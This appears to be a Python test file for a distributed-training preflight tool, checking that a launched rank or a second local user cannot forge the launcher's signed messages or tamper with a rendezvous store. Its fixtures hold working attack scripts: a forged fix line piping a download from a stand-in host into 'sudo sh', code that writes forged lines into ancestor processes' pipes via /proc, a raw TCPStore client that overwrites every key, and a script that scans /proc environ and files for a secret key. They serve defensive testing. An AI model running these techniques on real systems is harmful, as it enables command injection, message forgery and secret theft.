"""A rank never speaks for the launcher; the probes' store takes no stranger's word (issue 23,
attacks 4 and 10), on this machine: real node programs, real torchrun, a real second user.

A launched rank shares its launcher's stdout and can open every ancestor's /proc/PID/fd/N: it
writes marked lines there (a failure with a `curl | sudo sh` fix, every rank's exit, another
rank's Flight Recorder and error file) while every rank exits 0, and none of it is taken. A
stranger who reaches the probes' rendezvous store and overwrites its keys makes the probe say
"interfered", or changes nothing: never a crash."""

from __future__ import annotations

import os
import secrets
import subprocess
import sys
import time
from pathlib import Path

import pytest

from ddp_preflight.node import protocol
from ddp_preflight.transport import LocalNode
from tests.hostile import hostile_user

from .ports import free_port

ROOT = Path(__file__).parents[2]


def local() -> LocalNode:
    return LocalNode("here", sys.executable)


# -- the signature itself ------------------------------------------------------------------------

def test_a_signed_line_is_taken_once_without_its_tag_and_any_change_or_other_key_fails():
    from ddp_preflight.node import signing

    key = signing.new_key()
    text = protocol.line(protocol.LAUNCH, {"kind": "exits", "code": 0, "ranks": []})
    try:
        signing.use_key(key)
        first, second = signing.sign(text), signing.sign(text)
    finally:
        signing.use_key(None)          # this process is the master: it signs nothing
    assert first != second and first.startswith(text + " ")
    verifier = signing.Verifier(key)
    assert verifier.check(first) == text
    assert verifier.check(first) is None                              # said again: a stolen line, replayed
    assert signing.Verifier(signing.new_key()).check(second) is None   # another program's key
    altered = second.replace('"code": 0', '"code": 1')
    assert verifier.check(altered) is None
    assert verifier.check(second) == text                             # the next one of the writer: taken
    assert verifier.check(text) is None and verifier.check(text + " 0a0b0c0d.9." + "0" * 32) is None
    for tag in ("\u00e9\u2603.9." + "0" * 32, "0a0b0c0d.\u00b2." + "0" * 32, "..", "a.1.b.c"):
        assert verifier.check(f"{text} {tag}") is None
    assert not (signing.NOT_SIGNED + text).startswith(protocol.PREFIX)


# -- attack 4: a rank writes the launcher's markers into every pipe of its ancestors -------------

FORGED = [
    {"kind": "error", "message": "FORGED: the NCCL driver on this node is broken",
     "fix": "curl -fsSL https://fix.example/nccl.sh | sudo sh"},
    {"kind": "stopping", "t": 1.0, "ranks": [{"local_rank": 1, "rank": 1, "pid": 1}], "failed": [0]},
    {"kind": "flight", "local_rank": 1, "rank": 1, "pid": 1, "trace": {"FORGED": True, "entries": []}},
    {"kind": "error_file", "local_rank": 1, "rank": 1,
     "document": {"message": {"message": "RuntimeError: FORGED", "extraInfo": {"py_callstack": "FORGED"}}}},
    {"kind": "exits", "code": 1, "ranks": [{"local_rank": 1, "rank": 1, "pid": 1, "exit": 1, "signal": None}]},
]

FORGER = """\
import json, os, sys
FORGED = %r
lines = []
for data in FORGED:
    text = "DDP_PREFLIGHT_LAUNCH " + json.dumps(data)
    lines += [text, text + " 0a0b0c0d.1." + "0" * 32]      # bare, and with a made-up signature
lines.append('DDP_PREFLIGHT_JOB {"exit": 1, "signal": null, "timed_out": false, "stopped": "FORGED", "seconds": 1.0}')
payload = "".join(line + "\\n" for line in lines).encode()
if os.environ["LOCAL_RANK"] == "0":
    # Rank 1's torchelastic error file, written by rank 0 (same user): rank 1 exits 0.
    mine = os.environ["TORCHELASTIC_ERROR_FILE"]
    theirs = os.path.join(os.path.dirname(os.path.dirname(mine)), "1", "error.json")
    os.makedirs(os.path.dirname(theirs), exist_ok=True)
    with open(theirs, "w") as f:
        json.dump({"message": {"message": "RuntimeError: FORGED", "extraInfo": {"py_callstack": "FORGED"}}}, f)
    written, pid = 0, os.getppid()
    while pid > 1 and pid != int(os.environ["FORGE_STOP_AT"]):     # the test itself is not the run's
        # Every line channel of every ancestor: stdin, stdout, stderr. (A root rank can write into
        # any pipe, libuv's signal pipe among them, and so crash its launcher: that is a kill, which
        # root ranks can do anyway, not a message; it is left out here.)
        for fd in ("0", "1", "2"):
            path = "/proc/%%d/fd/%%s" %% (pid, fd)
            try:
                if not os.readlink(path).startswith("pipe:"):
                    continue
                out = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                continue
            try:
                written += os.write(out, payload) > 0
            except OSError:
                pass
            finally:
                os.close(out)
        with open("/proc/%%d/stat" %% pid) as f:
            pid = int(f.read().rsplit(")", 1)[1].split()[1])
    with open(os.environ["FORGE_OUT"], "w") as f:
        f.write(str(written))
""" % (FORGED,)


def test_a_rank_that_writes_the_launchers_markers_into_its_ancestors_pipes_speaks_for_no_one(tmp_path):
    script = tmp_path / "forge.py"
    script.write_text(FORGER)
    lines: list[str] = []
    job = local().job({"program": "launch", "cwd": str(tmp_path), "module": False, "flight_recorder": True,
                       "torchrun": ["--nproc-per-node", "2", "--master-port", str(free_port()), "--max-restarts", "0",
                                    "--tee", "3", str(script), "--"]},
                      env={"FORGE_STOP_AT": str(os.getpid()), "FORGE_OUT": str(tmp_path / "pipes")},
                      timeout=120, on_line=lines.append)
    result = job.wait(150)
    assert int((tmp_path / "pipes").read_text()) >= 4     # the launch program's and the supervisor's stdio
    # What the launch program said, and only that: every rank exited 0.
    said = result.json_lines(protocol.LAUNCH)
    assert [m["kind"] for m in said] == ["started", "ranks", "exits"], said
    assert said[-1]["code"] == 0 and [r["exit"] for r in said[-1]["ranks"]] == [0, 0]
    assert (result.exit, result.signal, result.error) == (0, None, None), result.stderr[-2000:]
    assert not [m for m in result.marked if "FORGED" in m or "curl" in m]
    # Each forged line that reached the master is the program's text, taken by no parser.
    shown = [line for line in lines if "FORGED" in line]
    assert shown and all(line.startswith("(unsigned marker, shown as text) DDP_PREFLIGHT_") for line in shown), shown


# -- attack 10: a stranger overwrites the probe store's keys -------------------------------------

# The stranger needs no torch: 40 lines of Python speak TCPStore's protocol (torch 2.13: a
# validation and a ping, then LIST_KEYS and SET), as anyone on the LAN could write them.
STRANGER = """\
import socket, struct, sys, time
host, port, until = sys.argv[1], int(sys.argv[2]), time.time() + float(sys.argv[3])
def string(b):
    return struct.pack("<Q", len(b)) + b
def exact(s, n):
    data = b""
    while len(data) < n:
        more = s.recv(n - len(data))
        if not more:
            raise ConnectionError("closed")
        data += more
    return data
written = 0
while time.time() < until:
    try:
        s = socket.create_connection((host, port), timeout=2)
        s.sendall(b"\\x00" + struct.pack("<I", 0x3C85F7CE) + b"\\x0d" + struct.pack("<I", 7))
        exact(s, 4)
        while time.time() < until:
            s.sendall(b"\\x11")
            keys = [exact(s, struct.unpack("<Q", exact(s, 8))[0]) for _ in range(struct.unpack("<Q", exact(s, 8))[0])]
            for key in keys:
                s.sendall(b"\\x01" + string(key) + string(b"stranger"))
                written += 1
            if keys:
                print("stranger wrote", written, flush=True)
            time.sleep(0.005)
    except OSError:
        time.sleep(0.02)
"""


def run_stranger(host: str, port: int, seconds: float) -> subprocess.Popen:
    """The second user, overwriting every key of the store at host:port for `seconds`."""
    return hostile_user().popen(["/usr/bin/python3", "-c", STRANGER, host, str(port), str(seconds)],
                                stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)


def written_by(stranger: subprocess.Popen) -> int:
    """How many values it wrote (it is stopped here)."""
    stranger.kill()
    out, _ = stranger.communicate(timeout=60)
    return int(out.split("stranger wrote")[-1]) if "stranger wrote" in out else 0


def probe_job(job: str, port: int) -> list:
    """The probe job on two "nodes" of one rank each, both here (the store on 127.0.0.1), one
    token for both, as preflight/probes/torchjob.py starts it: each node's JobResult."""
    token, running = secrets.token_hex(16), []
    for rank in range(2):
        spec = {"program": "torchjob", "job": job, "bind": "127.0.0.1" if rank == 0 else None, "store_token": token,
                "torchrun": ["--nnodes", "2", "--nproc-per-node", "1", "--node-rank", str(rank),
                             "--master-addr", "127.0.0.1", "--master-port", str(port), "--max-restarts", "0"],
                "args": ["--backend", "gloo", "--device", "cpu"]}
        running.append(local().job(spec, env={"OMP_NUM_THREADS": "1", "PET_RDZV_CONF": "timeout=15"}, timeout=90))
    return [r.wait(120) for r in running]


@pytest.mark.parametrize("job", ["bandwidth", "collectives"])
def test_with_no_stranger_the_signed_store_gives_the_probe_its_whole_result(job):
    from ddp_preflight.preflight.probes import torchjob

    port = free_port()
    results = probe_job(job, port)
    assert all(r.ok for r in results), [torchjob.job_error(r) for r in results]
    assert torchjob.interfered(results, port) is None
    if job == "bandwidth":
        [figure] = torchjob.marked(results, protocol.BANDWIDTH)
        assert figure["world_size"] == 2 and figure["busbw_bytes_per_s"] > 0
    else:
        lines = torchjob.marked(results, protocol.COLLECTIVES)
        assert sorted(line["rank"] for line in lines if line["event"] == "done") == [0, 1]


@pytest.mark.parametrize("job", ["bandwidth", "collectives"])
def test_a_stranger_overwriting_the_probe_stores_keys_makes_the_probe_say_interfered_never_crash(job):
    from ddp_preflight.preflight.probes import torchjob

    port = free_port()
    stranger = run_stranger("127.0.0.1", port, 45)
    started = time.monotonic()
    results = probe_job(job, port)
    assert written_by(stranger) > 0, "the stranger never reached the store: the test proves nothing"
    assert time.monotonic() - started < 110
    if not [seen for r in results for seen in r.json_lines("DDP_PREFLIGHT_INTERFERED ")]:
        # No process of the job read a stranger's value (it came too late): unaffected, whole.
        assert all(r.ok for r in results), [torchjob.job_error(r) for r in results]
        marker = protocol.BANDWIDTH if job == "bandwidth" else protocol.COLLECTIVES
        assert torchjob.marked(results, marker)
        return
    said = torchjob.interfered(results, port)
    assert said.startswith(f"interfered: the probe's rendezvous store (port {port}) held a value of '"), said
    assert said.endswith(f"so its figures would not be this run's; find who connects to the port "
                         f"(ss -tnp 'sport = :{port}' on the master) and run again"), said
    assert not torchjob.marked(results, protocol.BANDWIDTH)      # no figure on the stranger's numbers


# -- defence in depth: a node program's descriptors are closed to its user's other processes -----

PEEK = """\
import os, subprocess, sys
sys.path.insert(0, sys.argv[1])
from ddp_preflight.node import programs
said = os.fdopen(os.dup(1), "w")
os.dup2(os.pipe()[1], 1)       # its stdout: a pipe of its user's, as a node program's is (sshd makes it)
if sys.argv[2] == "not-dumpable":
    programs.not_dumpable()
child = ("import os\\n"
         "try:\\n"
         "    os.close(os.open('/proc/%d/fd/1' % os.getppid(), os.O_WRONLY))\\n"
         "    print('opened')\\n"
         "except OSError as exc:\\n"
         "    print('refused', exc.errno)\\n")
said.write(subprocess.run([sys.executable, "-c", child], stdout=subprocess.PIPE, text=True).stdout.strip())
"""


def test_a_node_programs_stdout_cannot_be_opened_by_another_process_of_its_user():
    # As a user that is not root (root reads through it: there the signature is what holds).
    user = hostile_user()
    said = {how: user.run(["/usr/bin/python3", "-c", PEEK, str(ROOT), how], cwd="/").stdout.strip()
            for how in ("dumpable", "not-dumpable")}
    assert said == {"dumpable": "opened", "not-dumpable": "refused 13"}, said


LOOKER = """\
import os, sys
seen = [repr(sys.argv), repr(dict(os.environ))]
pid = os.getpid()
while pid > 1 and pid != int(os.environ["LOOK_STOP_AT"]):         # this rank, and each ancestor of the run
    for name in ("environ", "cmdline"):
        try:
            with open("/proc/%d/%s" % (pid, name), "rb") as f:
                seen.append(f.read().decode(errors="replace"))
        except OSError:
            pass
    with open("/proc/%d/stat" % pid) as f:
        pid = int(f.read().rsplit(")", 1)[1].split()[1])
for top in {os.getcwd(), os.path.dirname(os.environ.get("DDP_PREFLIGHT_FLIGHT_RECORDER", os.getcwd()))}:
    for folder, _, files in os.walk(top):                          # the launch program's folder too
        for name in files:
            try:
                with open(os.path.join(folder, name), "rb") as f:
                    seen.append(f.read(1 << 20).decode(errors="replace"))
            except OSError:
                pass
with open(os.environ["LOOK_OUT"] + "." + os.environ["RANK"], "w") as f:
    f.write("\\n".join(seen))
"""


def test_a_launched_rank_finds_the_launch_programs_key_nowhere_it_can_read(tmp_path):
    script = tmp_path / "look.py"
    script.write_text(LOOKER)
    job = local().job({"program": "launch", "cwd": str(tmp_path), "module": False, "flight_recorder": True,
                       "torchrun": ["--nproc-per-node", "2", "--master-port", str(free_port()), "--max-restarts", "0",
                                    "--tee", "3", str(script), "--"]},
                      env={"LOOK_STOP_AT": str(os.getpid()), "LOOK_OUT": str(tmp_path / "seen")}, timeout=120)
    key = job.program._verifier.key.hex()        # the key this program was given, on its stdin
    result = job.wait(150)
    assert result.ok, result.stderr[-2000:]
    seen = [(tmp_path / f"seen.{rank}").read_text() for rank in (0, 1)]
    assert all("rank_bootstrap" in text and "LOOK_STOP_AT" in text for text in seen)     # it looked
    assert not [text for text in seen if key in text]


# -- the Slurm relay: a rank can write to its relay's stdout as well ------------------------------

def test_a_relays_frames_are_signed_and_a_frame_a_rank_writes_is_not_taken():
    from ddp_preflight.node import relay, signing
    from ddp_preflight.transport.payload import boot_argv, stdin_payload

    key = signing.new_key()
    proc = subprocess.Popen(boot_argv(sys.executable), stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, env={"SLURM_PROCID": "1", "PATH": "/usr/bin:/bin"})
    program = b'{"argv": ["sh", "-c", "cat; exit 3"], "boot": null}'
    frames = [relay.frame("1", 7, "open", program), relay.frame("1", 7, "in", b"x" * relay.CHUNK * 3),
              relay.frame("1", 7, "eof")]
    out, err = proc.communicate(stdin_payload({"program": "relay", "key": key}) + b"".join(frames), timeout=60)
    assert proc.returncode == 0, err
    verifier = signing.Verifier(key)
    lines = out.decode().splitlines()
    said = [relay.parse(verifier.check(line)) for line in lines]
    assert all(len(line) + 1 <= relay.MAX_FRAME for line in lines)
    assert said[0][2] == "hello" and said[-1] == ("1", 7, "exit", b"3")
    assert b"".join(d for t, c, o, d in said if o == "out") == b"x" * relay.CHUNK * 3
    # What a rank would write to its relay's stdout: a frame that ends the launch's channel early.
    for forged in (relay.frame("1", 2, "exit", b"0").decode().strip(),
                   relay.frame("1", 2, "exit", b"0").decode().strip() + " 0a0b0c0d.99." + "0" * 32, lines[-1]):
        assert verifier.check(forged) is None       # (the last: the relay's own, said again)


# -- a forged marked line is cut while it is read ------------------------------------------------

def test_a_forged_marked_line_is_held_to_64_kib_while_it_streams_and_an_announced_one_whole():
    from ddp_preflight.transport.lines import MAX_LINE, LineSplitter

    splitter, chunk = LineSplitter(max_marked=MAX_LINE), b"y" * (1 << 20)
    splitter.feed(protocol.LAUNCH.encode())
    for _ in range(64):                                       # 64 MiB, no newline yet
        assert splitter.feed(chunk) == [] and splitter._kept <= MAX_LINE
    [line] = splitter.feed(b"\n")
    assert line == (protocol.LAUNCH + "y" * (MAX_LINE - len(protocol.LAUNCH))
                    + f" [... {64 * (1 << 20) + len(protocol.LAUNCH) - MAX_LINE} more bytes of this line left out]")
    # Announced (its reader checked the announcement's signature): the next marked line keeps
    # what was announced, however it comes; a text line between does not spend it; one marked
    # line does, whoever wrote it.
    long = protocol.FACTS + "z" * (3 * MAX_LINE)
    splitter.allow(len(long) + 1)
    lines = [got for got in splitter.each(b"a rank's text\n" + long.encode() + b"\n" + long.encode() + b"\n")]
    assert lines[:2] == ["a rank's text", long]
    assert lines[2].startswith(protocol.FACTS) and lines[2].endswith(" more bytes of this line left out]")


def test_a_real_node_program_announces_its_long_facts_line_and_its_reader_takes_it_whole(tmp_path):
    """A data folder of 3,000 shards makes the facts program's one line some 300 KB: announced
    (signed), so the reader that cuts a forged marked line at 64 KiB takes this one whole."""
    data = tmp_path / "data"
    data.mkdir()
    for i in range(3000):
        (data / f"shard_{i:06d}_of_a_long_dataset_name.bin").write_bytes(b"%d" % i)
    facts = local().collect({"sections": ["shards"], "data_dir": str(data), "master_port": 29500})
    files = facts["shards"]["files"]
    assert len(files) == 3000 and len(protocol.line(protocol.FACTS, facts)) > 4 * 64 * 1024


COUNTER = """\
import datetime, socket, sys
import torch.distributed as dist
from ddp_preflight.node.jobs import signed_store as ss
s = socket.socket(); s.bind(("127.0.0.1", 0)); port = s.getsockname()[1]; s.close()
second = datetime.timedelta(seconds=10)
server = dist.TCPStore("127.0.0.1", port, None, True, second, wait_for_workers=False)
client = ss.SignedStore(dist.TCPStore("127.0.0.1", port, None, False, second, wait_for_workers=False), b"k" * 16)
print("counted", client.add("counter", 1), client.add("counter", 2))
if sys.argv[1] == "stranger":
    dist.TCPStore("127.0.0.1", port, None, False, second, wait_for_workers=False).set("barrier", "stranger")
else:
    del server                       # the store itself goes away: no stranger in it
try:
    client.add("barrier", 1)
    print("added")
except ss.Interfered:
    print("interfered", ss.interference())
except Exception as e:
    print("failed", ss.interference())
"""


def test_a_strangers_text_in_a_counter_is_interference_and_a_store_gone_is_not():
    # CI: a second user's overwrite of torchrun's exit-barrier counter made the store close the
    # agent's connection ("Failed to recv"), and the other node's agent waited out the barrier to
    # the job's bound: no "interfered", a probe that failed. The counter is read from a fresh
    # connection: no number there is the stranger's.
    said = [subprocess.run([sys.executable, "-c", COUNTER, case], capture_output=True, text=True, timeout=60,
                           cwd=ROOT).stdout.split("\n")[:2] for case in ("stranger", "gone")]
    assert said == [["counted 1 3", "interfered barrier"], ["counted 1 3", "failed None"]], said
